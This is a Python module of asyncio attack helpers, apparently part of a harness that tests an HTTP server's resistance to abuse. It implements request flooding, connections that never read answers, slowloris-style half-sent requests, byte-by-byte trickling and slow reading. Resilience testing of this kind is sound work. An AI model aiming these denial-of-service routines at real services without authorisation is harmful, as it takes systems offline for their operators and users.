"""Attack: a number of connections that send something again and again for some seconds."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from typing import Any, Final, TypeAlias

ANSWER_SECONDS: Final = 60.0
"""Maximum time that an attacking connection waits for an answer."""

PAUSE_SECONDS: Final = 0.02
"""Pause of a connection before it sends again."""

SLOW_BYTES: Final = 4_096
"""Size of the pieces in which a slow client reads."""


@dataclass(frozen=True, kw_only=True)
class Target:
    """Service under attack."""

    host: str
    port: int


Attack: TypeAlias = Callable[[Target, float], Awaitable[None]]
"""Function (target, seconds) that attacks for so long, and then waits for the last answers."""


@dataclass(frozen=True, kw_only=True)
class Abuse:
    """Kind of abuse."""

    name: str
    explained: str
    attack: Attack


def post(path: str, media_type: str, body: bytes, *headers: str) -> bytes:
    """Return a POST request that closes its connection."""
    lines = (
        f"POST {path} HTTP/1.1",
        "Host: localhost",
        f"Content-Type: {media_type}",
        f"Content-Length: {len(body)}",
        "Connection: close",
        *headers,
    )
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def repeat(request: bytes, *, connections: int) -> Attack:
    """Send a request over some connections, again as soon as each is answered."""

    async def send(target: Target) -> None:
        reader, writer = await asyncio.open_connection(target.host, target.port)
        try:
            writer.write(request)
            await writer.drain()
            async with asyncio.timeout(ANSWER_SECONDS):
                while await reader.read(1_048_576):
                    pass
        finally:
            writer.transport.abort()

    return _on_connections(send, connections)


def send_and_leave(request: bytes, *, connections: int) -> Attack:
    """Send a request over some connections and close each without waiting for the answer, again and again."""

    async def send(target: Target) -> None:
        _, writer = await asyncio.open_connection(target.host, target.port)
        writer.write(request)
        await writer.drain()
        writer.close()

    return _on_connections(send, connections)


def read_nothing(request: bytes, *, connections: int) -> Attack:
    """Send a request over some connections, and never read the answer."""

    async def attack(target: Target, seconds: float) -> None:
        async def send() -> None:
            with suppress(OSError):
                _, writer = await asyncio.open_connection(target.host, target.port, limit=1_024)
                transport: Any = writer.transport  # one that reads too, which its type does not say
                transport.pause_reading()
                writer.write(request)
                await asyncio.sleep(seconds)
                writer.transport.abort()

        await asyncio.gather(*(send() for _ in range(connections)))

    return attack


def get(path: str, *headers: str) -> bytes:
    """Return a GET request that keeps its connection open."""
    return ("\r\n".join((f"GET {path} HTTP/1.1", "Host: localhost", *headers)) + "\r\n\r\n").encode()


def hold_open(data: bytes, *, connections: int) -> Attack:
    """Send the beginning of a request over some connections, and nothing more."""

    async def hold(writer: asyncio.StreamWriter, _: asyncio.StreamReader, seconds: float) -> None:
        writer.write(data)
        await asyncio.sleep(seconds)

    return _throughout(hold, connections)


def trickle(data: bytes, *, connections: int) -> Attack:
    """Send a request over some connections byte by byte."""

    async def send(writer: asyncio.StreamWriter, _: asyncio.StreamReader, seconds: float) -> None:
        async with asyncio.timeout(seconds):
            for start in range(len(data)):
                writer.write(data[start : start + 1])
                await asyncio.sleep(PAUSE_SECONDS)

    return _throughout(send, connections)


def read_slowly(request: bytes, *, connections: int) -> Attack:
    """Send a request over some connections, and read the answer in small pieces."""

    async def read(writer: asyncio.StreamWriter, reader: asyncio.StreamReader, seconds: float) -> None:
        writer.write(request)
        async with asyncio.timeout(seconds):
            while await reader.read(SLOW_BYTES):  # noqa: ASYNC110 (the pause is the attack)
                await asyncio.sleep(PAUSE_SECONDS)

    return _throughout(read, connections)


def _throughout(
    use: Callable[[asyncio.StreamWriter, asyncio.StreamReader, float], Awaitable[None]], connections: int
) -> Attack:
    """Use each connection once, for the whole attack."""

    async def attack(target: Target, seconds: float) -> None:
        async def connect() -> None:
            with suppress(OSError, TimeoutError):
                reader, writer = await asyncio.open_connection(target.host, target.port, limit=SLOW_BYTES)
                try:
                    await use(writer, reader, seconds)
                finally:
                    writer.transport.abort()

        await asyncio.gather(*(connect() for _ in range(connections)))

    return attack


def _on_connections(send: Callable[[Target], Awaitable[None]], connections: int) -> Attack:
    async def attack(target: Target, seconds: float) -> None:
        loop = asyncio.get_running_loop()
        end = loop.time() + seconds

        async def keep_sending() -> None:
            while True:  # at least once, also if the machine stalls at the beginning
                with suppress(OSError, TimeoutError):
                    await send(target)
                await asyncio.sleep(PAUSE_SECONDS)
                if loop.time() >= end:
                    break

        await asyncio.gather(*(keep_sending() for _ in range(connections)))

    return attack
